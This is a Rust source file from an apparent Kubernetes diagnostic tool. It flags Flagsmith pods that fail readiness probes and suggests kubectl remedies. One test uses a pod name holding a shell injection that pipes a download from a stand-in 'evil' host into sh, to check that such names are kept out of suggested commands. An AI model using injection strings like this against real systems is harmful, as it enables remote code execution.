//! A pod runs and does not become ready.

use jiff::SignedDuration;

use crate::{
    causes::{
        described,
        log::{
            access::Answer,
            phrasing::{component, times, within},
        },
        prelude::*,
        probes,
    },
    model::shell,
    observe::PodSummary,
};

pub(crate) static CAUSE: Cause = Cause {
    explains: &[
        Explains::from_api(consequences::WITHOUT_API),
        Explains::same_component(&[Code::RolloutDeadlineExceeded]),
    ],
    gives_way: GivesWay::InLogs,
    in_logs: Some(|logs| in_logs(logs).or_else(|| described::unanswered(logs, Code::ProbeFailing))),
    check: Some(check),
    ..Cause::warning(Component::Api, include_str!("probe_failing.md"))
};

/// How long a container may fail its probes after it began: Flagsmith needs ten seconds to listen, three times that
/// on a busy node.
const STARTING_TAKES: SignedDuration = SignedDuration::from_secs(45);

/// What the kubelet says of a probe that got no answer in time, rather than a bad one.
const NO_ANSWER: [&str; 2] = ["context deadline exceeded", "Client.Timeout exceeded"];

/// Gunicorn's timeout where none is set.
const DEFAULT_TIMEOUT: i32 = 30;

/// How long after Gunicorn has ended a worker that is known: it writes that down at once, and the log of a pod that is
/// not ready is read each half minute.
const READ_WITHIN: SignedDuration = SignedDuration::from_secs(45);

/// Health checks that fail, where the log does not say why.
fn in_logs(evidence: &LogEvidence) -> Option<Finding> {
    let who = within(component(evidence.component));
    let found = |answer: Answer| {
        let probes = evidence.access.bad(answer)?;
        evidence.goes_on(&probes.last).then_some((answer, probes))
    };
    let (answer, probes) = found(Answer::Failed).or_else(|| found(Answer::NotFound))?;
    let (how, remedy) = if answer == Answer::Failed {
        (
            "with an error (500 or 503): a check of Flagsmith's own fails, of the database, its migrations or the task processor",
            "See which: kubectl exec POD -- python -c \"import urllib.request as r; \
             print(r.urlopen('http://127.0.0.1:8000/health/readiness/?format=json').read())\" or the log at level ERROR. For a probe \
             that is to restart the pod ask /health/liveness/, which does not ask the database.",
        )
    } else {
        (
            "with 404: there is no such page",
            "Let liveness probes ask /health/liveness/ and readiness probes /health/readiness/, both with the slash at the end.",
        )
    };
    let explained = Explanation::new(
        Code::ProbeFailing,
        format!(
            "Health checks of {who} ({}) are answered {how}. That happened {} in this log, and none was answered well since.",
            probes.path,
            times(probes.rate.count)
        ),
        remedy,
    );
    Some(Finding::new(explained, vec![probes.first.clone(), probes.last.clone()]))
}

fn check(context: &Context<'_>) -> Vec<Draft> {
    probes::PROBED.into_iter().filter_map(|component| of(context, component)).collect()
}

/// The first pod of a component that fails its probes and was not killed for that.
fn of(context: &Context<'_>, component: Component) -> Option<Draft> {
    let observation = context.observation;
    let counts = |pod: &&PodSummary| !context.is_rolled_back(pod);
    let (pod, evidence) = probes::unready(observation, component).filter(counts).find_map(|pod| {
        let said = probes::said(observation, pod);
        let had_time = pod.containers.iter().any(|container| {
            container
                .running_since
                .is_some_and(|since| observation.now.duration_since(since) >= STARTING_TAKES)
        });
        let fails = !said.is_empty()
            && had_time
            && !probes::was_killed(&said, pod, observation.now)
            && !may_be_a_worker(context, pod, &said);
        fails.then_some((pod, said))
    })?;
    if let Some(program) = evidence.iter().find_map(|it| probes::missing_program(it)) {
        return Some(Draft {
            code: Code::ProbeFailing,
            severity: Severity::Critical,
            component,
            message: format!(
                "A pod of the {} runs and gets no requests: its probe runs {program:?}, which the image does not have.",
                component.as_str()
            ),
            // Each attempt has a number of its own, and says the same.
            evidence: evidence.into_iter().take(1).collect(),
            remedy: probes::without_program(component),
        });
    }
    let namespace = shell::name(&context.installation.identity.namespace, "NAMESPACE");
    let name = shell::name(&pod.name, "POD");
    Some(Draft {
        code: Code::ProbeFailing,
        severity: Severity::Critical,
        component,
        message: format!(
            "A pod of the {} runs but does not answer its probes, so it gets no requests.",
            component.as_str()
        ),
        evidence,
        remedy: format!(
            "See what it says: kubectl -n {namespace} logs {name}; and what it answers: kubectl -n {namespace} exec \
             {name} -- flagsmith healthcheck http /health/readiness/"
        ),
    })
}

/// Whether a pod that was ready has only now ceased to answer: if its worker is held up by a request, or stopped, then
/// Gunicorn ends and names it after its timeout, and that the probes fail is what follows.
fn may_be_a_worker(context: &Context<'_>, pod: &PodSummary, said: &[String]) -> bool {
    let Some(since) = pod.ready_since.filter(|_| !pod.ready) else {
        return false;
    };
    let was_ready = pod.containers.iter().filter(|it| !it.init && !it.sidecar).all(|container| {
        container.running_since.is_some_and(|began| since.duration_since(began) >= STARTING_TAKES)
    });
    let no_answer = |line: &String| NO_ANSWER.iter().any(|words| line.contains(words));
    let timeout =
        context.running().and_then(|running| running.values.gunicorn_timeout).unwrap_or(DEFAULT_TIMEOUT);
    let named_within = READ_WITHIN.saturating_add(SignedDuration::from_secs(timeout.into()));
    was_ready && said.iter().all(no_answer) && context.observation.now.duration_since(since) < named_within
}

#[cfg(test)]
mod tests {
    use rstest::rstest;

    use super::*;
    use crate::{
        fixtures::{empty_observation, installation, minimal},
        observe::{ContainerRun, Observation, PodLogFindings, Warning},
    };

    /// A pod that has run for five minutes and ceased to be ready so long ago.
    fn unready(name: &str, since: i64, said: &str) -> Observation {
        let now = empty_observation().now;
        Observation {
            pods: vec![PodSummary {
                name: name.to_owned(),
                component: Some(Component::Api),
                ready_since: Some(now - SignedDuration::from_secs(since)),
                containers: vec![ContainerRun {
                    name: "flagsmith".to_owned(),
                    init: false,
                    sidecar: false,
                    restarts: 0,
                    running_since: Some(now - SignedDuration::from_mins(5)),
                    failed: None,
                    ready: false,
                }],
                ..PodSummary::default()
            }],
            pod_logs: PodLogFindings {
                logs: Vec::new(),
                warnings: vec![Warning {
                    pod: name.to_owned(),
                    reason: "Unhealthy".to_owned(),
                    message: said.to_owned(),
                }],
            },
            ..empty_observation()
        }
    }

    const STATUS: &str = "Readiness probe failed: HTTP probe failed with statuscode: 500";
    const SILENT: &str = "Readiness probe failed: Get \"http://10.0.0.7:8000/health/readiness/\": context deadline exceeded (Client.Timeout exceeded while awaiting headers)";

    /// A worker that is stopped, or works on one request, is named by Gunicorn after its timeout.
    #[rstest]
    #[case::answers_badly(20, STATUS, true)]
    #[case::gunicorn_may_name_it(20, SILENT, false)]
    #[case::gunicorn_would_have_named_it(80, SILENT, true)]
    #[case::it_was_never_ready(290, SILENT, true)]
    fn a_probe_without_an_answer_waits_for_gunicorn(
        #[case] since: i64,
        #[case] said: &str,
        #[case] expected: bool,
    ) {
        let (installation, observation) = (installation(&minimal()), unready("a", since, said));
        let found = check(&Context::new(&installation, &observation));
        assert_eq!(!found.is_empty(), expected, "{found:?}");
    }

    #[test]
    fn a_probe_whose_program_is_missing_is_told_as_that() {
        let said = "Readiness probe errored and resulted in unknown state: rpc error: code = Unknown desc = failed to exec in container: unable to start container process: exec: \"curl\": executable file not found in $PATH: unknown";
        let (installation, observation) = (installation(&minimal()), unready("a", 290, said));
        let found = check(&Context::new(&installation, &observation));
        let first = found.first().unwrap();
        assert!(
            first.message.ends_with("its probe runs \"curl\", which the image does not have."),
            "{first:?}"
        );
        assert_eq!(first.remedy, probes::without_program(Component::Api));
    }

    #[test]
    fn a_hostile_name_is_no_part_of_a_command() {
        let observation = unready("x;curl evil|sh", 20, STATUS);
        let installation = installation(&minimal());
        let found = check(&Context::new(&installation, &observation));
        let remedy = &found.first().unwrap().remedy;
        assert!(remedy.contains("-n prod logs POD;") && !remedy.contains("evil"), "{remedy}");
    }
}
